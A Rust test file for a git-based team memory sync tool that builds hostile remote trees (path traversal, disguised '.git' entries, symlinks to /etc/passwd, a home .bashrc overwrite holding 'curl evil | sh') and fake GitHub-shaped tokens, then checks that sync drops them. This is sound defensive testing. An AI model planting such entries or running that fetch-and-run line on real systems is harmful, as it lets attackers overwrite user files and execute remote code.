//! Team sync against a hostile remote, and a remote as hosting sites create them (issues 11 and
//! 32; DESIGN §8, §10): entries that are not memory files (kept in git, never written), entries
//! git refuses to check out (dropped from what memdir merges and pushes), trees too big to take,
//! a push that loses a race, a teammate's secret, and a sync killed while `git` talks to a
//! remote that never answers. The hostile trees are raw objects written with the real git's
//! plumbing into a plain bare remote, which accepts them.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::time::Duration;

use crate::common::{
    HOSTILE_LIMIT_KB, Mate, Run, TestEnv, assert_git_clean, assert_only_fast_forwards, bare_remote,
    git, git_stdin, tree_snapshot, wait_for,
};

/// What a hostile tree entry points to.
enum Content {
    Blob(Vec<u8>),
    /// A folder holding one memory file, and one more entry (name, mode, blob) when given.
    Folder(Option<(&'static str, &'static str)>),
    /// A submodule: the remote's current commit.
    Gitlink,
}

/// One tree entry: its name, mode and content.
struct Entry {
    name: Vec<u8>,
    mode: &'static str,
    content: Content,
}

fn entry(name: &str, mode: &'static str, content: Content) -> Entry {
    Entry {
        name: name.as_bytes().to_vec(),
        mode,
        content,
    }
}

/// What a hosting site's new repository holds, and what teammates add by hand: entries that are
/// not memory files, each with the name `git ls-tree` gives it.
fn foreign_entries() -> Vec<(Entry, &'static str)> {
    let memory = b"---\nname: run\ndescription: d\ntype: project\n---\nbody\n".to_vec();
    vec![
        (
            entry(
                "README.md",
                "100644",
                Content::Blob(b"# Team memory\n".to_vec()),
            ),
            "README.md",
        ),
        (
            entry(
                "LICENSE",
                "100644",
                Content::Blob(b"MIT License\n".to_vec()),
            ),
            "LICENSE",
        ),
        (entry("docs", "40000", Content::Folder(None)), "docs"),
        (
            entry("link.md", "120000", Content::Blob(b"/etc/passwd".to_vec())),
            "link.md",
        ),
        (
            entry(
                ".gitattributes",
                "100644",
                Content::Blob(b"*.md text eol=lf\n".to_vec()),
            ),
            ".gitattributes",
        ),
        (
            entry(
                ".gitmodules",
                "100644",
                Content::Blob(b"[submodule \"sub\"]\n\tpath = sub\n\turl = ./sub\n".to_vec()),
            ),
            ".gitmodules",
        ),
        (entry("sub", "160000", Content::Gitlink), "sub"),
        (entry("run.md", "100755", Content::Blob(memory)), "run.md"),
    ]
}

/// Entries git itself refuses to check out, at the top and deeper: dropped, with the path the
/// report names.
fn refused_entries(home: &Path) -> Vec<(Entry, String)> {
    vec![
        (
            entry(
                "../escaped.md",
                "100644",
                Content::Blob(b"escaped\n".to_vec()),
            ),
            "../escaped.md".into(),
        ),
        (
            entry(
                &format!("{}/.bashrc", home.display()),
                "100644",
                Content::Blob(b"curl evil | sh\n".to_vec()),
            ),
            format!("{}/.bashrc", home.display()),
        ),
        (
            entry(".git", "100644", Content::Blob(b"gitdir: /tmp\n".to_vec())),
            ".git".into(),
        ),
        (entry(".GIT", "40000", Content::Folder(None)), ".GIT".into()),
        (
            entry("GIT~1", "40000", Content::Folder(None)),
            "GIT~1".into(),
        ),
        (
            entry(
                "notes",
                "40000",
                Content::Folder(Some((".git", "gitdir: /tmp\n"))),
            ),
            "notes/.git".into(),
        ),
        (
            entry(
                ".gitmodules",
                "120000",
                Content::Blob(b"/etc/passwd".to_vec()),
            ),
            ".gitmodules".into(),
        ),
    ]
}

fn unhex(hex: &str) -> Vec<u8> {
    (0..hex.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).expect("hex"))
        .collect()
}

/// Write a tree object from raw entries (mode, name, id), in git's order, whatever the names.
fn raw_tree(repo: &Path, entries: &[(String, Vec<u8>, String)]) -> String {
    let mut sorted: Vec<&(String, Vec<u8>, String)> = entries.iter().collect();
    // Git orders a folder as if its name ended in '/'.
    let key = |(mode, name, _): &&(String, Vec<u8>, String)| {
        let mut key = name.clone();
        if mode == "40000" {
            key.push(b'/');
        }
        key
    };
    sorted.sort_by_key(key);
    let mut bytes = Vec::new();
    for (mode, name, id) in sorted {
        bytes.extend_from_slice(mode.as_bytes());
        bytes.push(b' ');
        bytes.extend_from_slice(name);
        bytes.push(0);
        bytes.extend_from_slice(&unhex(id));
    }
    git_stdin(
        repo,
        &["hash-object", "-t", "tree", "-w", "--literally", "--stdin"],
        &bytes,
    )
    .trim()
    .to_string()
}

/// The remote's branch (`refs/heads/…`).
fn branch(remote: &Path) -> String {
    git(remote, &["symbolic-ref", "HEAD"]).trim().to_string()
}

fn tip(repo: &Path) -> String {
    git(repo, &["rev-parse", "HEAD"]).trim().to_string()
}

fn blob(repo: &Path, bytes: &[u8]) -> String {
    git_stdin(repo, &["hash-object", "-w", "--stdin"], bytes)
        .trim()
        .to_string()
}

/// Commit, on the remote's branch, its tree with `entries` added (replacing those of the same
/// name); the branch moves there.
fn push_entries(remote: &Path, entries: &[&Entry]) -> String {
    let parent = tip(remote);
    let mut tree: Vec<(String, Vec<u8>, String)> = git(remote, &["ls-tree", "HEAD"])
        .lines()
        .map(|line| {
            let (meta, name) = line.split_once('\t').expect("ls-tree line");
            let mut fields = meta.split(' ');
            // `ls-tree` pads a folder's mode (`040000`); a tree object must not.
            let mode = fields
                .next()
                .expect("mode")
                .trim_start_matches('0')
                .to_string();
            let id = fields.nth(1).expect("id").to_string();
            (mode, name.as_bytes().to_vec(), id)
        })
        .collect();
    for entry in entries {
        let id = match &entry.content {
            Content::Blob(bytes) => blob(remote, bytes),
            Content::Folder(more) => {
                let mut inside =
                    vec![("100644".into(), b"x.md".to_vec(), blob(remote, b"inside\n"))];
                if let Some((name, text)) = more {
                    inside.push((
                        "100644".into(),
                        name.as_bytes().to_vec(),
                        blob(remote, text.as_bytes()),
                    ));
                }
                raw_tree(remote, &inside)
            }
            Content::Gitlink => parent.clone(),
        };
        tree.retain(|(_, name, _)| *name != entry.name);
        tree.push((entry.mode.to_string(), entry.name.clone(), id));
    }
    let tree = raw_tree(remote, &tree);
    let commit = git(
        remote,
        &["commit-tree", &tree, "-p", &parent, "-m", "by hand"],
    )
    .trim()
    .to_string();
    git(remote, &["update-ref", &branch(remote), &commit]);
    commit
}

/// The remote's top-level entry names.
fn remote_names(remote: &Path) -> Vec<String> {
    git(remote, &["ls-tree", "--name-only", "HEAD"])
        .lines()
        .map(str::to_string)
        .collect()
}

/// The remote's paths, at any depth.
fn remote_paths(remote: &Path) -> Vec<String> {
    git(remote, &["ls-tree", "-r", "-t", "--name-only", "HEAD"])
        .lines()
        .map(str::to_string)
        .collect()
}

/// Everything under a teammate's test root (their HOME, the project, the memory dirs).
fn written(mate: &Mate) -> BTreeMap<PathBuf, Vec<u8>> {
    tree_snapshot(&mate.env.root)
}

/// What changed under the teammate's whole test root, HOME included, since `before`, but in
/// the team clone's `.git` (where a fetch stores what it brought).
fn changed_since(mate: &Mate, before: &BTreeMap<PathBuf, Vec<u8>>) -> Vec<PathBuf> {
    let after = written(mate);
    let git_dir = mate.team.join(".git");
    after
        .iter()
        .filter(|(path, bytes)| before.get(*path) != Some(bytes))
        .map(|(path, _)| path.clone())
        .chain(
            before
                .keys()
                .filter(|path| !after.contains_key(*path))
                .cloned(),
        )
        .filter(|path| !path.starts_with(&git_dir))
        .collect()
}

/// Nothing changed under the teammate's whole test root, HOME included, since `before`, but in
/// the team clone's `.git` and its top-level memory files.
fn assert_only_team_memory_written(mate: &Mate, before: &BTreeMap<PathBuf, Vec<u8>>) {
    let changed: Vec<PathBuf> = changed_since(mate, before)
        .into_iter()
        .filter(|path| {
            let name = path
                .file_name()
                .and_then(|n| n.to_str())
                .unwrap_or_default();
            let memory = name == "MEMORY.md"
                || (name.ends_with(".md")
                    && name.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit()));
            !(path.parent() == Some(mate.team.as_path()) && memory)
        })
        .collect();
    assert!(
        changed.is_empty(),
        "written outside team memory: {changed:?}"
    );
}

/// The same files with the same bytes; the paths that differ otherwise.
fn assert_same_files(before: &BTreeMap<PathBuf, Vec<u8>>, after: &BTreeMap<PathBuf, Vec<u8>>) {
    let differ: Vec<&PathBuf> = before
        .keys()
        .chain(after.keys())
        .filter(|path| before.get(*path) != after.get(*path))
        .collect();
    assert!(differ.is_empty(), "changed: {differ:?}");
}

/// The team clone is sound as the real git sees it. A remote history that holds entries git
/// refuses to check out stays in the clone's history (its commits are our parents), so git's
/// fsck is told to accept those names, and only those.
fn assert_clone_sound(dir: &Path) {
    git(
        dir,
        &[
            "-c",
            "fsck.hasDotgit=ignore",
            "-c",
            "fsck.hasDotdot=ignore",
            "-c",
            "fsck.fullPathname=ignore",
            "-c",
            "fsck.gitmodulesSymlink=ignore",
            "fsck",
            "--strict",
            "--no-progress",
        ],
    );
    let status = git(dir, &["status", "--porcelain", "--untracked-files=all"]);
    assert_eq!(status, "", "git status in {} is not clean", dir.display());
}

/// A bare remote, a teammate who saved a memory there, and me, who joined after.
fn a_teammate_and_me() -> (TestEnv, PathBuf, Mate, Mate) {
    let root = TestEnv::new();
    let remote = bare_remote(&root.root);
    let mate = Mate::join(&remote).limited(HOSTILE_LIMIT_KB);
    mate.save("deploy-window", "Deploys happen Tuesday to Thursday only.");
    mate.sync();
    let me = Mate::join(&remote).limited(HOSTILE_LIMIT_KB);
    (root, remote, mate, me)
}

/// Each entry that is not a memory file, pushed by hand on top of the remote's branch: my sync
/// succeeds, names it once as kept, never writes it, pushes my work with it still in the tree,
/// and writes nothing anywhere but team memory. With `mine`, I have a memory of my own to push
/// each time (the merge path); without, it is a fast-forward.
fn assert_each_foreign_entry_kept(remote: &Path, me: &Mate, mine: bool) {
    for (n, (entry, name)) in foreign_entries().into_iter().enumerate() {
        if mine {
            me.save(&format!("mine-{n}"), &format!("My memory number {n}."));
        }
        let before = written(me);
        push_entries(remote, &[&entry]);
        let run = me.env.ok(&["team", "sync", "--json"]);
        let synced = run.json();
        assert_eq!(
            synced["integrated"],
            if mine { "merged" } else { "fast-forward" },
            "{name}: {synced}"
        );
        let kept = synced["foreign"].to_string();
        assert!(kept.contains(name), "{name} not reported as kept: {synced}");
        assert!(!me.team.join(name).exists(), "{name} was written");
        assert!(
            remote_names(remote).iter().any(|n| n == name),
            "{name} left the remote's tree"
        );
        if mine {
            assert_eq!(synced["pushed"], true, "{name}: {synced}");
            assert!(git(remote, &["ls-tree", "HEAD"]).contains(&format!("mine-{n}.md")));
        }
        assert_only_team_memory_written(me, &before);
        assert_clone_sound(&me.team);
        // Plain output names them once, in one line.
        let plain = me.env.ok(&["team", "sync"]);
        let lines: Vec<&str> = plain
            .stdout
            .lines()
            .filter(|l| l.contains("memdir does not manage"))
            .collect();
        assert_eq!(lines.len(), 1, "{}", plain.stdout);
        assert!(lines[0].contains(name), "{}", plain.stdout);
    }
}

#[test]
fn entries_that_are_not_memory_files_are_kept_on_the_fast_forward_path() {
    let (_root, remote, mate, me) = a_teammate_and_me();
    assert_each_foreign_entry_kept(&remote, &me, false);
    // The teammate's clone follows and carries them too.
    assert_eq!(mate.sync()["integrated"], "fast-forward");
    assert!(!mate.team.join("README.md").exists());
    assert_clone_sound(&mate.team);
    assert_only_fast_forwards(&remote);
}

#[test]
fn entries_that_are_not_memory_files_are_kept_on_the_merge_path() {
    let (_root, remote, mate, me) = a_teammate_and_me();
    assert_each_foreign_entry_kept(&remote, &me, true);
    let synced = mate.sync();
    assert_eq!(synced["integrated"], "fast-forward", "{synced}");
    assert_eq!(mate.files(), me.files());
    // My own saves and removals never touch them.
    me.env.ok(&["rm", "mine-0", "--team"]);
    assert_eq!(me.sync()["pushed"], true);
    let names = remote_names(&remote);
    for (_, name) in foreign_entries() {
        assert!(names.iter().any(|n| n == name), "{name} lost: {names:?}");
    }
    assert!(!names.iter().any(|n| n == "mine-0.md"));
    assert_clone_sound(&me.team);
    assert_only_fast_forwards(&remote);
}

/// Each entry git refuses to check out, pushed by hand on top of the remote's branch: my sync
/// succeeds, drops it from what it merges and pushes (the remote's tree loses it), reports it,
/// and writes nothing anywhere but team memory.
#[test]
fn entries_git_refuses_are_dropped_and_sync_goes_on() {
    let (_root, remote, mate, me) = a_teammate_and_me();
    std::fs::write(me.env.home.join(".bashrc"), "original\n").expect("bashrc");
    for (mine, (entry, path)) in [false, true].into_iter().flat_map(|mine| {
        refused_entries(&me.env.home)
            .into_iter()
            .map(move |e| (mine, e))
    }) {
        if mine {
            me.save("mine", &format!("My memory, before {path}."));
        }
        let before = written(&me);
        let bad = push_entries(&remote, &[&entry]);
        let run = me.env.ok(&["team", "sync", "--json"]);
        let synced = run.json();
        let dropped = synced["dropped"].to_string();
        assert!(
            dropped.contains(&format!("{path:?}").replace('\\', "\\\\")) || dropped.contains(&path),
            "{path} not reported as dropped: {synced}"
        );
        assert_eq!(synced["pushed"], true, "{path}: {synced}");
        let paths = remote_paths(&remote);
        assert!(
            !paths.iter().any(|p| p == &path),
            "{path} is still in the remote's tree: {paths:?}"
        );
        // What the remote had is still there: the commit that dropped it is on top of it.
        let parents = git(&remote, &["log", "-1", "--format=%P", "HEAD"]);
        assert!(parents.contains(&bad), "{path}: {parents}");
        assert_only_team_memory_written(&me, &before);
        assert_clone_sound(&me.team);
        let plain = me.env.ok(&["team", "sync"]);
        assert!(
            !plain.stderr.contains("dropped"),
            "reported twice: {}",
            plain.stderr
        );
    }
    assert!(!me.env.home.join("escaped.md").exists());
    assert_eq!(
        std::fs::read_to_string(me.env.home.join(".bashrc")).expect("bashrc"),
        "original\n"
    );
    // The teammate fast-forwards to the tree without them.
    let before = written(&mate);
    assert_eq!(mate.sync()["integrated"], "fast-forward");
    assert_only_team_memory_written(&mate, &before);
    assert_eq!(mate.files(), me.files());
    assert_only_fast_forwards(&remote);
}

#[test]
fn a_topic_file_over_its_cap_is_dropped_and_a_huge_index_refused_whole() {
    let (_root, remote, _mate, me) = a_teammate_and_me();
    let big: Vec<u8> = vec![b'a'; 300 * 1024].into_iter().chain(*b"\n").collect();
    push_entries(&remote, &[&entry("big.md", "100644", Content::Blob(big))]);
    let synced = me.sync();
    assert!(synced["dropped"].to_string().contains("big.md"), "{synced}");
    assert!(!me.team.join("big.md").exists());
    assert!(!remote_names(&remote).iter().any(|n| n == "big.md"));
    // An index over 4 MiB: nothing can be taken without it, so nothing is.
    let good = tip(&remote);
    let head_before = tip(&me.team);
    let before = written(&me);
    let huge = "- [A](a.md) — a\n".repeat(300_000).into_bytes();
    let bad = push_entries(
        &remote,
        &[&entry("MEMORY.md", "100644", Content::Blob(huge))],
    );
    let run = me.env.fails(&["team", "sync"], 2, "MEMORY.md of");
    assert_eq!(run.error_lines().len(), 1, "{}", run.stderr);
    assert!(run.stderr.contains(&bad[..12]), "{}", run.stderr);
    assert_eq!(tip(&me.team), head_before);
    assert_eq!(changed_since(&me, &before), Vec::<PathBuf>::new());
    git(&remote, &["update-ref", &branch(&remote), &good]);
    assert_eq!(me.sync()["integrated"], "up to date");
    assert_clone_sound(&me.team);
}

/// A repository as GitHub or GitLab creates it: a README and a licence on `main`.
fn hosted_remote(root: &Path) -> PathBuf {
    let remote = bare_remote(root);
    let seed = root.join("seed");
    git(
        root,
        &["init", "-q", "-b", "main", seed.to_str().expect("utf-8")],
    );
    std::fs::write(seed.join("README.md"), "# memory\nOur team's memory.\n").expect("readme");
    std::fs::write(seed.join("LICENSE"), "MIT License\n").expect("licence");
    git(&seed, &["add", "-A"]);
    git(
        &seed,
        &[
            "-c",
            "user.name=GitHub",
            "-c",
            "user.email=noreply@github.com",
            "commit",
            "-q",
            "-m",
            "Initial commit",
        ],
    );
    git(
        &seed,
        &["push", "-q", remote.to_str().expect("utf-8"), "main"],
    );
    git(&remote, &["symbolic-ref", "HEAD", "refs/heads/main"]);
    remote
}

#[test]
fn a_repository_as_hosting_sites_create_it_is_a_team_remote() {
    let root = TestEnv::new();
    let remote = hosted_remote(&root.root);
    let a = Mate::join(&remote).limited(HOSTILE_LIMIT_KB);
    assert!(!a.team.join("README.md").exists() && !a.team.join("LICENSE").exists());
    assert_clone_sound(&a.team);
    a.save("deploy-window", "Deploys happen Tuesday to Thursday only.");
    let synced = a.sync();
    assert_eq!(synced["pushed"], true, "{synced}");
    assert_eq!(
        synced["foreign"].as_array().map(Vec::len),
        Some(2),
        "{synced}"
    );
    let b = Mate::join(&remote).limited(HOSTILE_LIMIT_KB);
    assert!(b.files().contains_key("deploy-window.md"));
    b.save("oncall", "Pages go to #payments-oncall.");
    b.sync();
    a.sync();
    assert_eq!(a.files(), b.files());
    let names = remote_names(&remote);
    for name in [
        "README.md",
        "LICENSE",
        "MEMORY.md",
        "deploy-window.md",
        "oncall.md",
    ] {
        assert!(names.iter().any(|n| n == name), "{name}: {names:?}");
    }
    // The README is the remote's as GitHub made it.
    assert_eq!(
        git(&remote, &["show", "HEAD:README.md"]),
        "# memory\nOur team's memory.\n"
    );
    assert_clone_sound(&a.team);
    assert_clone_sound(&b.team);
    assert_only_fast_forwards(&remote);
}

#[test]
fn joining_a_remote_that_holds_entries_git_refuses_drops_them() {
    let (_root, remote, _mate, _me) = a_teammate_and_me();
    push_entries(
        &remote,
        &[
            &entry("../escaped.md", "100644", Content::Blob(b"x\n".to_vec())),
            &entry(
                "docs",
                "40000",
                Content::Folder(Some((".git", "gitdir: /tmp\n"))),
            ),
        ],
    );
    let mut newcomer = TestEnv::new();
    newcomer.limit_memory(HOSTILE_LIMIT_KB);
    let memory_dir = newcomer.memory_dir();
    let url = remote.to_str().expect("utf-8");
    let run = newcomer.ok(&["team", "init", "--remote", url, "--json"]);
    let joined = run.json();
    let dropped = joined["dropped"].to_string();
    assert!(
        dropped.contains("../escaped.md") && dropped.contains("docs/.git"),
        "{joined}"
    );
    assert!(joined["foreign"].to_string().contains("docs/"), "{joined}");
    let team = memory_dir.join("team");
    assert!(team.join("deploy-window.md").is_file());
    assert!(!memory_dir.join("escaped.md").exists() && !team.join("docs").exists());
    assert_clone_sound(&team);
    // Joining again with the same remote, written another way, changes nothing.
    let before = tree_snapshot(&newcomer.root);
    let again = newcomer.ok(&["team", "init", "--remote", &format!("file://{url}/")]);
    assert!(again.stdout.contains("nothing to do"), "{}", again.stdout);
    assert_same_files(&before, &tree_snapshot(&newcomer.root));
    // Another remote: refused, with how to switch.
    let other = bare_remote(&newcomer.root);
    let run = newcomer.fails(
        &["team", "init", "--remote", other.to_str().expect("utf-8")],
        2,
        "remote set-url origin",
    );
    assert_eq!(run.error_lines().len(), 1, "{}", run.stderr);
    let mut after = tree_snapshot(&newcomer.root);
    after.retain(|path, _| !path.starts_with(&other));
    assert_same_files(&before, &after);
}

#[test]
fn my_own_tree_is_held_to_the_same_rules_before_a_push() {
    let (_root, remote, mate, me) = a_teammate_and_me();
    let before = tip(&remote);
    // Committed by hand in my clone, past memdir: a README is mine to share.
    std::fs::write(me.team.join("README.md"), "# Team notes\n").expect("readme");
    git(&me.team, &["add", "README.md"]);
    git(&me.team, &["commit", "-q", "-m", "readme by hand"]);
    assert_eq!(me.sync()["pushed"], true);
    mate.sync();
    assert!(!mate.team.join("README.md").exists());
    assert!(remote_names(&remote).iter().any(|n| n == "README.md"));
    // A folder named like git's own, committed with git's plumbing: never pushed.
    let bad = push_entries(&me.team, &[&entry(".GIT", "40000", Content::Folder(None))]);
    let pushed_before = tip(&remote);
    let run = me.env.fails(&["team", "sync"], 2, "\".GIT\"");
    assert!(run.stderr.contains("nothing was pushed"), "{}", run.stderr);
    assert!(run.stderr.contains(&bad[..12]), "{}", run.stderr);
    assert_eq!(run.error_lines().len(), 1, "{}", run.stderr);
    assert_eq!(tip(&remote), pushed_before);
    assert_ne!(pushed_before, before);
}

/// `memdir team sync` started in the background.
fn spawn_sync(mate: &Mate) -> Child {
    mate.env
        .command()
        .args(["team", "sync"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("memdir starts")
}

fn finish(child: Child) -> Run {
    let output = child.wait_with_output().expect("memdir ends");
    Run {
        code: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    }
}

#[test]
fn two_syncs_racing_to_push_both_succeed() {
    const ROUNDS: usize = 6;
    let (_root, remote, a, b) = a_teammate_and_me();
    for round in 0..ROUNDS {
        a.save(&format!("a-{round}"), &format!("From a, round {round}."));
        b.save(&format!("b-{round}"), &format!("From b, round {round}."));
        let (first, second) = (spawn_sync(&a), spawn_sync(&b));
        for (who, run) in [("a", finish(first)), ("b", finish(second))] {
            assert_eq!(
                run.code, 0,
                "round {round}, {who}: {}{}",
                run.stdout, run.stderr
            );
        }
    }
    a.sync();
    b.sync();
    let files = a.files();
    assert_eq!(files, b.files());
    for round in 0..ROUNDS {
        for who in ["a", "b"] {
            assert!(
                files.contains_key(&format!("{who}-{round}.md")),
                "{who}-{round} is missing: {:?}",
                files.keys()
            );
        }
    }
    assert_git_clean(&a.team);
    assert_git_clean(&b.team);
    git(&remote, &["fsck", "--strict"]);
    assert_only_fast_forwards(&remote);
}

/// A GitHub-shaped token made up for the test (the scanner knows the shape; no real one).
fn fake_token(seed: u64) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut state = seed;
    let body: String = (0..36)
        .map(|_| {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            ALPHABET[(state >> 33) as usize % ALPHABET.len()] as char
        })
        .collect();
    format!("ghp_{body}")
}

#[test]
fn a_secret_a_teammate_pushed_warns_and_my_work_keeps_flowing() {
    let (_root, remote, mate, me) = a_teammate_and_me();
    // The teammate commits a token with plain git (memdir would have refused it).
    let token = fake_token(11);
    std::fs::write(
        mate.team.join("ci-token.md"),
        format!(
            "---\nname: ci-token\ndescription: CI\ntype: reference\n---\nThe CI token: {token}\n"
        ),
    )
    .expect("write");
    let index = std::fs::read_to_string(mate.team.join("MEMORY.md")).expect("index");
    std::fs::write(
        mate.team.join("MEMORY.md"),
        format!("{index}- [CI token](ci-token.md) — the CI token\n"),
    )
    .expect("index");
    git(&mate.team, &["add", "-A"]);
    git(&mate.team, &["commit", "-q", "-m", "ci token"]);
    git(&mate.team, &["push", "-q", "origin", "HEAD"]);

    me.save("oncall-channel", "Pages go to #payments-oncall.");
    let run = me.env.ok(&["team", "sync"]);
    assert!(
        run.stderr.contains("warning:")
            && run.stderr.contains("ci-token.md:6")
            && run.stderr.contains("a GitHub token"),
        "{}",
        run.stderr
    );
    assert!(
        !run.stderr.contains(&token),
        "the secret was shown: {}",
        run.stderr
    );
    assert!(run.stdout.contains("pushed"), "{}", run.stdout);
    assert!(git(&remote, &["ls-tree", "HEAD"]).contains("oncall-channel.md"));
    // Later syncs of clean work go on, mine and the teammate's.
    me.save("release-owner", "Priya owns the release train.");
    assert_eq!(me.sync()["pushed"], true);
    mate.save("style-guide", "The style guide is in the wiki.");
    assert_eq!(mate.sync()["pushed"], true);
    assert_eq!(me.sync()["integrated"], "fast-forward");
    // review flags the teammate's secret in team memory.
    let review = me.env.ok(&["review", "--json"]).stdout;
    assert!(
        review.contains("ci-token") && review.contains("secret"),
        "{review}"
    );
    assert!(!review.contains(&token), "review showed the secret");
    // A secret in my own new memory is still refused, and nothing is pushed.
    let remote_before = tip(&remote);
    std::fs::write(
        me.team.join("my-token.md"),
        format!(
            "---\nname: my-token\ndescription: mine\ntype: reference\n---\nMine: {}\n",
            fake_token(12)
        ),
    )
    .expect("write");
    let run = me
        .env
        .fails(&["team", "sync"], 2, "team memory holds a secret");
    assert!(run.stderr.contains("my-token.md:6"), "{}", run.stderr);
    assert!(!run.stderr.contains("ci-token.md"), "{}", run.stderr);
    assert_eq!(tip(&remote), remote_before);
    std::fs::remove_file(me.team.join("my-token.md")).expect("remove");
    assert_git_clean(&me.team);
    assert_git_clean(&mate.team);
}

/// A stand-in for ssh that records its pid, its parent's and grandparent's (git, or the shell
/// git started it with, and memdir), then never answers.
fn hanging_ssh(root: &Path) -> (PathBuf, PathBuf) {
    let pids = root.join("ssh.pids");
    let script = root.join("fake-ssh");
    std::fs::write(
        &script,
        format!(
            "#!/bin/sh\nparent=$(cut -d' ' -f4 /proc/$PPID/stat)\necho \"$$ $PPID $parent\" > '{}'\nexec sleep 600\n",
            pids.display()
        ),
    )
    .expect("script");
    std::process::Command::new("chmod")
        .args(["+x"])
        .arg(&script)
        .status()
        .expect("chmod");
    (script, pids)
}

/// Whether a process is running (a zombie nobody reaped yet is not).
fn alive(pid: &str) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|stat| {
            let state = stat.rsplit_once(") ")?.1.chars().next()?;
            Some(!matches!(state, 'Z' | 'X'))
        })
        .unwrap_or(false)
}

/// A teammate whose remote is `ssh://` through `ssh`, and that ssh's pid file.
fn behind_a_hanging_remote() -> (TestEnv, Mate, PathBuf) {
    let root = TestEnv::new();
    let remote = bare_remote(&root.root);
    let mut mate = Mate::join(&remote).limited(HOSTILE_LIMIT_KB);
    let (ssh, pids) = hanging_ssh(&root.root);
    git(
        &mate.team,
        &[
            "config",
            "remote.origin.url",
            "ssh://team.invalid/memory.git",
        ],
    );
    mate.env
        .set_var("GIT_SSH_COMMAND", ssh.to_str().expect("utf-8"));
    (root, mate, pids)
}

#[test]
fn a_killed_sync_leaves_no_git_behind() {
    for signal in ["KILL", "TERM"] {
        let (_root, mate, pids) = behind_a_hanging_remote();
        let mut sync = spawn_sync(&mate);
        wait_for("ssh never started", Duration::from_secs(30), || {
            std::fs::read_to_string(&pids).is_ok_and(|p| p.ends_with('\n'))
        });
        let recorded = std::fs::read_to_string(&pids).expect("pids");
        let started: Vec<&str> = recorded.split_whitespace().collect();
        assert!(started.iter().all(|pid| alive(pid)), "{recorded}");
        let status = std::process::Command::new("kill")
            .arg(format!("-{signal}"))
            .arg(sync.id().to_string())
            .status()
            .expect("kill");
        assert!(status.success());
        let _ = sync.wait();
        wait_for(
            &format!("git and ssh outlived memdir killed by SIG{signal}"),
            Duration::from_secs(10),
            || started.iter().all(|pid| !alive(pid)),
        );
        assert_git_clean(&mate.team);
    }
}

#[test]
fn a_remote_that_never_answers_is_given_up_on() {
    let (_root, mut mate, pids) = behind_a_hanging_remote();
    mate.env.set_var("MEMDIR_GIT_TIMEOUT", "2");
    let mut sync = Some(spawn_sync(&mate));
    let mut run = None;
    wait_for("sync hung", Duration::from_secs(60), || {
        if let Some(child) = sync.as_mut()
            && child.try_wait().expect("try_wait").is_some()
        {
            run = sync.take().map(finish);
        }
        run.is_some()
    });
    let run = run.expect("sync ended");
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert_eq!(run.error_lines().len(), 1, "{}", run.stderr);
    assert!(run.stderr.contains("2 s"), "{}", run.stderr);
    let recorded = std::fs::read_to_string(&pids).expect("pids");
    for pid in recorded.split_whitespace() {
        wait_for(
            "ssh outlived the time limit",
            Duration::from_secs(10),
            || !alive(pid),
        );
    }
    assert_git_clean(&mate.team);
}
